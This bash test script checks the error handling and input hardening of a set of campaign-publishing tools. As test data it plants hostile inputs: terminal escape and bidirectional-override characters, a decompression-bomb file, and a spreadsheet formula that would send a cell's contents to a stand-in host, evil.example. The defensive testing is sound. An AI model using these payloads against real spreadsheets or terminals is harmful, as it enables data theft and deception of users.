#!/usr/bin/env bash
# What the programs say when they fail: one line, the right exit class, the
# program named once, and no failure that exits 0.
. "$(dirname "$0")/lib.sh"

# A failure deep in a library that nothing reports used to exit 0 with an
# empty "kit-publish: " line.  Memory exhaustion while a key is loaded
# (BIO_new_mem_buf failing, forced with an LD_PRELOAD shim) must exit 1
# with the reason.
check "a repository to sign" kit-publish init --repo "$T/repo" --keys "$T/keys" --quiet
if cc -shared -fPIC -o "$T/fail_bio.so" "$KIT_SRC/tests/fixtures/shims/fail_bio_mem_buf.c" 2>"$T/cc.err"; then
	LD_PRELOAD="$T/fail_bio.so" ASAN_OPTIONS="${ASAN_OPTIONS:-}:verify_asan_link_order=0" \
		expect_exit 1 "a key that cannot be loaded for lack of memory exits 1" \
		kit-publish timestamp --repo "$T/repo" --keys "$T/keys"
	expect_msg "and says which key and why" "^kit-publish: cannot load key .*/keys/[a-z]+-[0-9]+\.pem: out of memory"
	[ "$(wc -l <"$T/err")" -eq 1 ] && ok "in one line" || not_ok "in one line" "$(cat "$T/err")"
else
	not_ok "the failure shim compiles (cc)" "$(cat "$T/cc.err")"
fi

# Terminal controls in what a message quotes are shown as '?': C0, C1
# (CSI U+009B), bidirectional overrides (U+202E) and isolates (U+2066).
evil=$(printf 'x\033]0;t\007\302\2332J\342\200\256exe.pdf\342\201\246y')
expect_exit 2 "an option with controls in it exits 2" kit-fetch "--$evil"
expect_msg "the controls are shown as ?" "option --x\?\]0;t\?\?2J\?exe\.pdf\?y;"
if LC_ALL=C grep -q $'\302\233\|\342\200\256\|\342\201\246\|\033' "$T/err"; then not_ok "no control reaches the terminal" "$(od -c "$T/err" | head -5)"; else ok "no control reaches the terminal"; fi

# Counts: the limits hold after the k/M/G suffix, and no value overflows.
expect_exit 2 "--keep 101 is refused" kit-fetch update --state "$T/office" --keep 101
expect_msg "with the range" "^kit-fetch: --keep 101: give a number of releases, 1 to 100; see 'kit-fetch --help'$"
expect_exit 2 "--keep 1k (1024) is refused too" kit-fetch update --state "$T/office" --keep 1k
expect_msg "with the range" "^kit-fetch: --keep 1k: give a number of releases, 1 to 100"
expect_exit 2 "--max-unpacked past 2^63 after the suffix is refused, not overflowed" \
	kit-fetch init --state "$T/office" --root "$T/repo/metadata/1.root.json" --url "file://$T/repo" --max-unpacked 1125899906842624M
expect_msg "with the range" "^kit-fetch: --max-unpacked 1125899906842624M: give bytes from 1 to 1048576G"
expect_exit 2 "--max-unpacked with a sign is refused" \
	kit-fetch init --state "$T/office" --root "$T/repo/metadata/1.root.json" --url "file://$T/repo" --max-unpacked -1
expect_exit 2 "--speed-time takes no byte suffix" kit-fetch update --state "$T/office" --speed-time 1k
expect_msg "and says so" "^kit-fetch: --speed-time 1k: give seconds, 0 to 86400"
[ ! -e "$T/office" ] && ok "nothing was created" || not_ok "nothing was created"
expect_exit 2 "kit-publish --level 20 is refused" kit-publish build "$KIT_SRC/campaigns/together-2016" --out "$T/out" --level 20

# A local root file given to init: the program is named once, and the
# message speaks of that file, not of a mirror.
printf '{"signed":{"_type":"root","spec_version":"1.0","version":0,"expires":"2030-01-01T00:00:00Z"},"signatures":[]}' >"$T/bad.root.json"
expect_exit 3 "init with a malformed --root file is refused" \
	kit-fetch init --state "$T/office" --root "$T/bad.root.json" --url "file://$T/repo"
expect_msg "the message names the file, and the program once" "^kit-fetch: init: root $T/bad.root.json: version is not an integer >= 1; refused as malformed TUF metadata; give --root the root.json the repository published"
if grep -q "mirror" "$T/err"; then not_ok "no mirror is blamed" "$(cat "$T/err")"; else ok "no mirror is blamed"; fi
printf '<html>portal</html>' >"$T/html.root.json"
expect_exit 3 "init with an HTML page as --root is refused" \
	kit-fetch init --state "$T/office" --root "$T/html.root.json" --url "file://$T/repo"
expect_msg "the message names the file once, and no mirror" "^kit-fetch: init: root $T/html.root.json is not valid JSON \(line 1, column 1: [^)]*\); refused; give --root"
expect_exit 5 "init with a missing --root file exits 5" \
	kit-fetch init --state "$T/office" --root "$T/none.json" --url "file://$T/repo"
expect_msg "and names the program once" "^kit-fetch: init: cannot open $T/none.json"

# The private keys live outside the repository: a web server serves
# everything under --repo.  Compared with links and ".." resolved.
R="$T/srv/repo"
expect_exit 2 "init --keys inside --repo is refused" kit-publish init --repo "$R" --keys "$R/keys" --quiet
expect_msg "and says why" "^kit-publish: --keys $R/keys is inside --repo $R, where a web server would serve the private keys; keep the keys outside"
[ ! -e "$T/srv" ] && ok "nothing was created" || not_ok "nothing was created" "$(find "$T/srv")"
expect_exit 2 "init --keys the same as --repo is refused" kit-publish init --repo "$R" --keys "$T/srv/x/../repo/" --quiet
expect_exit 2 "init --repo inside --keys is refused" kit-publish init --repo "$T/srv/keys/repo" --keys "$T/srv/keys" --quiet
expect_msg "and says why" "^kit-publish: --repo $T/srv/keys/repo is inside --keys $T/srv/keys, .*use two separate directories"
mkdir -p "$T/srv/site" && ln -s "$T/srv/site" "$T/srv/link"
expect_exit 2 "init --keys inside --repo through a symlink is refused" kit-publish init --repo "$T/srv/site" --keys "$T/srv/link/a/../keys" --quiet
[ -z "$(ls -A "$T/srv/site")" ] && ok "no key was written" || not_ok "no key was written" "$(find "$T/srv/site")"
in_dir() { local d=$1; shift; (cd "$d" && "$@"); }
expect_exit 2 "relative paths are resolved too" in_dir "$T/srv" kit-publish init --repo site --keys ./site/keys --quiet
check "a sibling whose name starts like the repository's is fine" kit-publish init --repo "$T/srv/r" --keys "$T/srv/r-keys" --quiet
mv "$T/srv/r-keys" "$T/srv/r/keys"
expect_exit 2 "publish with keys moved into the repository is refused" \
	kit-publish publish "$KIT_SRC/campaigns/together-2016" --repo "$T/srv/r" --keys "$T/srv/r/keys" --quiet
expect_exit 2 "timestamp with them is refused" kit-publish timestamp --repo "$T/srv/r" --keys "$T/srv/r/keys"
expect_exit 2 "sign-root with them is refused" kit-publish sign-root --repo "$T/srv/r" --keys "$T/srv/r/keys" --key "$T/srv/r/keys/root-1.pem"
[ ! -d "$T/srv/r/targets/together-2016" ] && ok "nothing was published" || not_ok "nothing was published"

# kit-schedule names what was meant: X by its former name, a misspelled
# platform, a zone by its city; a filter that matches nothing and means
# nothing is refused instead of printing an empty schedule.
K="$KIT_SRC/tests/fixtures/schedule/together-2016"
expect_exit 2 "--platform twitter is refused" kit-schedule --kit "$K" --platform twitter table
expect_msg "and X is suggested" "^kit-schedule: --platform twitter: no post of this kit has it; did you mean x\?$"
expect_exit 2 "--platform facebok is refused" kit-schedule --kit "$K" --platform facebok csv
expect_msg "and facebook is suggested" "did you mean facebook\?"
expect_exit 2 "--platform myspace is refused" kit-schedule --kit "$K" --platform myspace table
expect_msg "with the platforms the kit has" "no post of this kit has it; its posts have [a-z, ]*x"
check "--platform for a known platform the kit does not use is fine (empty)" kit-schedule --kit "$K" --platform threads table
expect_exit 2 "--tz Nairobi is refused" kit-schedule --kit "$K" --tz Nairobi table
expect_msg "and Africa/Nairobi is suggested" "^kit-schedule: --tz Nairobi: not a zone of the system tz database; did you mean Africa/Nairobi\?$"
expect_exit 2 "--lang swa is refused" kit-schedule --kit "$K" --lang swa table
expect_msg "with the kit's languages" "^kit-schedule: --lang swa: no post of this kit has it; its posts have en"

# The test clock is not in the programs make builds and installs: there
# KIT_TEST_NOW moves no expiry (it would switch off freeze protection).
REL="${KIT_BUILD:-$KIT_SRC/build}/bin"
if [ -x "$REL/kit-publish" ]; then
	year=$(date -u +%Y)
	KIT_TEST_NOW=2090-01-01T00:00:00Z check "the release kit-publish runs with KIT_TEST_NOW set" \
		"$REL/kit-publish" init --repo "$T/relrepo" --keys "$T/relkeys" --quiet
	exp=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["signed"]["expires"])' "$T/relrepo/metadata/1.root.json")
	case "$exp" in
	"$year"-* | "$((year + 1))"-*) ok "and dates the root by the real clock ($exp)" ;;
	*) not_ok "and dates the root by the real clock" "root expires $exp" ;;
	esac
	if grep -aq KIT_TEST_NOW "$REL/kit-publish" "$REL/kit-fetch" "$REL/kit-schedule"; then
		not_ok "no release program reads KIT_TEST_NOW" "$(grep -al KIT_TEST_NOW "$REL"/kit-*)"
	else ok "no release program reads KIT_TEST_NOW"; fi
else
	not_ok "the release programs are built ($REL)"
fi

# Spreadsheet formula injection (OWASP): a post text that starts with =
# reaches the Buffer and Hootsuite CSV as text, not as a live formula, and
# validation warns about it.
cp -a "$KIT_SRC/campaigns/together-2016" "$T/formula"
python3 - "$T/formula/campaign.json" <<'PY'
import json, sys
p = sys.argv[1]; c = json.load(open(p))
for post in c["posts"]:
    if post["id"] == "t16-x-en-1":
        post["text"] = '=HYPERLINK("https://evil.example/?"&A1,"Click #Together")'
    if post["id"] == "t16-x-en-3":
        post["text"] = "@SUM(1+1) #Together"
json.dump(c, open(p, "w"), ensure_ascii=False, indent=2)
PY
expect_exit 0 "a campaign with a formula-like post validates" kit-publish validate "$T/formula"
if grep -q 'campaign.json:[0-9]*:[0-9]*: warning: post "t16-x-en-1" begins with =, +, -, @, a tab or CR, which a spreadsheet runs as a formula' "$T/out" "$T/err"; then
	ok "with a warning at the post's text"; else not_ok "with a warning at the post's text" "$(cat "$T/out" "$T/err" | head -5)"; fi
check "it builds" kit-publish build "$T/formula" --out "$T/formula-out" --quiet
mkdir -p "$T/fk" && tar --zstd -xf "$T/formula-out/together-2016/global.tar.zst" -C "$T/fk"
for fmt in buffer hootsuite; do
	kit-schedule --kit "$T/fk" --now 2016-11-01T00:00:00Z csv --format $fmt --platform x >"$T/$fmt.csv" 2>"$T/err"
	if python3 - "$T/$fmt.csv" <<'PY'
import csv, sys
cells = [c for row in csv.reader(open(sys.argv[1], newline="", encoding="utf-8")) for c in row]
live = [c for c in cells if c and c[0] in "=+-@\t\r"]
ok = any(c.startswith("'=HYPERLINK(") for c in cells) and any(c.startswith("'@SUM(") for c in cells)
sys.exit(0 if ok and not live else 1)
PY
	then ok "$fmt CSV: the formulas are text (leading apostrophe), no cell starts a formula"
	else not_ok "$fmt CSV: the formulas are text" "$(head -5 "$T/$fmt.csv")"; fi
done

# Invisible controls in a post: a C1 control (CSI, U+009B) is an error, a
# bidirectional override (U+202E, "Trojan Source" reordering) a warning, both
# naming the post and the code point.
cp -a "$KIT_SRC/campaigns/together-2016" "$T/hidden"
python3 - "$T/hidden/campaign.json" <<'PY'
import json, sys
p = sys.argv[1]; c = json.load(open(p))
for post in c["posts"]:
    if post["id"] == "t16-x-en-1":
        post["text"] = "Stand together \u202e#Together"
json.dump(c, open(p, "w"), ensure_ascii=False, indent=2)
PY
expect_exit 0 "a post with a bidirectional override validates" kit-publish validate "$T/hidden"
if grep -q 'campaign.json:[0-9]*:[0-9]*: warning: post "t16-x-en-1" holds U+202E, an invisible bidirectional control' "$T/out" "$T/err"; then
	ok "with a warning naming the post and U+202E"; else not_ok "with a warning naming the post and U+202E" "$(cat "$T/out" "$T/err" | head -5)"; fi
python3 - "$T/hidden/campaign.json" <<'PY'
import json, sys
p = sys.argv[1]; c = json.load(open(p))
for post in c["posts"]:
    if post["id"] == "t16-x-en-1":
        post["text"] = "Stand together \u009b2J #Together"
json.dump(c, open(p, "w"), ensure_ascii=False, indent=2)
PY
expect_exit 1 "a post with a C1 control character does not validate" kit-publish validate "$T/hidden"
if grep -q 'error: post "t16-x-en-1" holds the control character U+009B' "$T/out" "$T/err"; then
	ok "the error names the post and U+009B"; else not_ok "the error names the post and U+009B" "$(cat "$T/out" "$T/err" | head -5)"; fi

# A medium every office would refuse as a decompression bomb (40 MiB of
# zeros: far over the default --max-ratio 200) is refused by kit-publish
# before anything is signed, naming the file.
cp -a "$KIT_SRC/campaigns/together-2016" "$T/bomb"
head -c $((40 * 1024 * 1024)) /dev/zero >"$T/bomb/media/zeros.png"
python3 - "$T/bomb/campaign.json" <<'PY'
import json, sys
p = sys.argv[1]; c = json.load(open(p))
c["media"].append({"file": "media/zeros.png", "alt": "Forty MiB of zeros"})
json.dump(c, open(p, "w"), ensure_ascii=False, indent=2)
PY
expect_exit 1 "kit-publish build refuses a kit every office would refuse as a bomb" kit-publish build "$T/bomb" --out "$T/bomb-out" --quiet
expect_msg "naming the limit and the file" "^kit-publish: kit global: unpacks to [0-9]+ bytes from [0-9]+, over the 200 times every office allows by default \(kit-fetch init --max-ratio\), so every office would refuse it as a decompression bomb; its largest file is media/zeros.png \(41943040 bytes\)"
[ -z "$(find "$T/bomb-out" -name '*.tar.zst' 2>/dev/null)" ] && ok "no archive was written" || not_ok "no archive was written" "$(find "$T/bomb-out")"
check "a repository for the bomb" kit-publish init --repo "$T/brepo" --keys "$T/bkeys" --quiet
before=$(tree_hash "$T/brepo")
expect_exit 1 "kit-publish publish --archives refuses it too" kit-publish publish "$T/bomb" --repo "$T/brepo" --keys "$T/bkeys" --archives --quiet
expect_msg "with the same reason" "kit global: unpacks to .* decompression bomb; its largest file is media/zeros.png"
[ "$(tree_hash "$T/brepo")" = "$before" ] && ok "nothing was signed or published" || not_ok "nothing was signed or published" "$(find "$T/brepo" -newer "$T/bkeys")"
# As packs only, the kit has no archive to expand: each object decodes to
# at most its signed size, and an office installs it within its limits.
check "kit-publish publish (packs only) takes it" kit-publish publish "$T/bomb" --repo "$T/brepo" --keys "$T/bkeys" --quiet
check "an office installs it from the packs" sh -c "kit-fetch init --state '$T/bst' --root '$T/brepo/metadata/1.root.json' --url 'file://$T/brepo' -q && kit-fetch update --state '$T/bst' -q && kit-fetch verify --state '$T/bst' -q"
[ "$(stat -c %s "$T/bst/kits/together-2016/current/media/zeros.png")" = 41943040 ] && ok "with its 40 MiB of zeros" || not_ok "with its 40 MiB of zeros"

# kit-schedule holds a kit to the same years: a post in year 4999 (ics
# --tz once spent 9.5 s on it) is refused when the kit is read.
cp -r "$KIT_SRC/tests/fixtures/schedule/together-2016" "$T/k4999"
python3 - "$T/k4999/manifest.json" <<'PY'
import json, sys
p = sys.argv[1]; m = json.load(open(p))
m["posts"][0]["at"] = "4999-12-15T08:00:00Z"
json.dump(m, open(p, "w"), ensure_ascii=False, indent=2)
PY
expect_exit 1 "a kit with a post in year 4999 is refused" timeout 20 kit-schedule --kit "$T/k4999" --tz Europe/Budapest ics
expect_msg "saying which years a kit may name" "^kit-schedule: manifest .*\"at\" is outside the years a kit may name, 1970 to 2199"
expect_exit 1 "table refuses it too" timeout 20 kit-schedule --kit "$T/k4999" table

# Validation stays near linear in posts and offices: 2,500 campaign posts
# and 403 office overlays of 21 posts each (8,463 more) took minutes
# (a scan per overlay item, and the zone file read again for every post).
cp -a "$KIT_SRC/campaigns/together-2016" "$T/many" && rm -rf "$T/many/offices" && mkdir "$T/many/offices"
python3 - "$T/many" <<'PY'
import json, sys
d = sys.argv[1]
c = json.load(open(d + "/campaign.json"))
post = dict(c["posts"][0]); post.pop("media", None); post.pop("link", None)
c["posts"] = [dict(post, id="p%05d" % i, text="Post %d #Together" % i) for i in range(2500)]
json.dump(c, open(d + "/campaign.json", "w"), indent=1)
for k in range(403):
    o = {"id": "o%03d" % k, "name": "Office %d" % k, "country": "Hungary", "timezone": "Europe/Budapest",
         "languages": ["en"], "posts": [dict(post, id="q%03d%02d" % (k, j), text="Office post #Together") for j in range(20)]
         + [dict(post, id="p%05d" % (k * 6), text="Replaced #Together")]}
    json.dump(o, open(d + "/offices/o%03d.json" % k, "w"), indent=1)
PY
start=$(date +%s)
expect_exit 0 "2,500 posts and 403 offices of 21 posts validate" timeout 120 kit-publish validate "$T/many"
took=$(($(date +%s) - start))
[ "$took" -lt 120 ] && ok "within 120 s (took $took s)" || not_ok "within 120 s" "took $took s"
